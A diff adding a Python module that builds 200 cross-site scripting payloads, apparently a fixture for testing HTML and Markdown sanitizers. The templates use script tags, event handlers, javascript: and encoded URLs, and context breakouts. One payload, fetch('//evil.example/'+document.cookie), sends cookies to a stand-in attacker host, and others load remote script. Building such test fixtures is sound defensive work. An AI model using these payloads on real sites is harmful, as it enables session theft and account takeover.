@@ -1,0 +1,66 @@
+"""Two hundred texts that have run scripts somewhere: as HTML, as Markdown, as links, as attributes."""
+
+import itertools
+
+_CALLS = (
+    "alert(1)",
+    "fetch('//evil.example/'+document.cookie)",
+    "top.ran=1",
+    "import('//evil.example/x.js')",
+)
+_HTML = (
+    "<script>{}</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT><!--{}-->",
+    "<img src=x onerror={}>",
+    '<img src=x onerror="{}" alt=\'',
+    "<svg onload={}>",
+    "<svg><script>{}</script></svg>",
+    "<svg><animate onbegin={} attributeName=x dur=1s>",
+    "<math><mtext><table><mglyph><style><!--</style><img src onerror={}>",
+    "<iframe srcdoc='<script>{}</script>'></iframe>",
+    '<iframe src="javascript:{}"></iframe>',
+    "<object data=javascript:{}></object>",
+    "<embed src=javascript:{}>",
+    "<body onload={}>",
+    "<details open ontoggle={}>",
+    "<input autofocus onfocus={}>",
+    "<video><source onerror={}></video>",
+    "<marquee onstart={}>",
+    "<a href='javascript:{}'>click</a>",
+    "<form action=javascript:{}><button>go</button></form>",
+    "<base href=//evil.example/><script src=x>{}</script>",
+    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
+    "<link rel=stylesheet href=//evil.example/{}.css>",
+    "<style>@import '//evil.example/{}';</style>",
+    "<template><script>{}</script></template>",
+    "</textarea><script>{}</script>",
+    "</title></code></pre><script>{}</script>",
+    "--><script>{}</script><!--",
+    "]]><script>{}</script>",
+)
+_MARKDOWN = (
+    "[click](javascript:{})",
+    "[click](JaVaScRiPt:{})",
+    "[click](\tjavascript:{})",
+    "[click](java\nscript:{})",
+    "[click](&#106;avascript:{})",
+    "[click](&#x6A;avascript&colon;{})",
+    "[click](data:text/html,<script>{}</script>)",
+    "[click](vbscript:{})",
+    "[click](blob:https://evil.example/{})",
+    "[click](//evil.example/{})",
+    "[click](https://evil.example \"x' onmouseover='{}\")",
+    '![x" onerror="{}](x)',
+    "![x](javascript:{})",
+    "<javascript:{}>",
+    "[a]: javascript:{}\n\n[a]",
+    "`<img src=x onerror={}>`",
+    '```"><script>{}</script>\ncode\n```',
+    "# <script>{}</script>",
+    "- <img src=x onerror={}>\n- x",
+    "> <svg onload={}>",
+    "|<script>{}</script>|b|\n|-|-|\n|[x](javascript:{})|y|",
+    "~~<b onclick={}>~~",
+)
+HOSTILE = [text.replace("{}", call) for text, call in itertools.product((*_HTML, *_MARKDOWN), _CALLS)]
+assert len(HOSTILE) == 200
